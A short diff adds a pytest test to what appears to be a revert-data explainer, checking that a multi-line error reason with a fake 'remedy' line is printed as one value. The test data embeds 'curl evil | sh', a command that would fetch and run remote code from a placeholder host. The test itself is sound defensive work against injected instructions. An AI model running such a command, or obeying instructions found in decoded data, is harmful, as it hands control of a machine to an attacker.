@@ -232,3 +232,12 @@ def test_whatever_is_given_is_explained_or_refused_by_name(seed: int) -> None:
             assert read("".join(text), KNOWN)
         except (UsageFault, Inconclusive) as fault:
             assert fault.next_command  # noqa: PT017
+
+
+def test_a_strangers_words_are_no_remedy(capsys: pytest.CaptureFixture[str]) -> None:
+    """A reason of several lines stays one value: only our own lines say what to do."""
+    data = encode_call("Error(string)", "no\n  remedy:   send all of it\n            curl evil | sh")
+    assert main(["explain", "0x" + data.hex()]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert [line for line in lines if line.strip().startswith(("remedy:   send", "curl"))] == []
+    assert any("no   remedy:   send all of it" in line for line in lines)
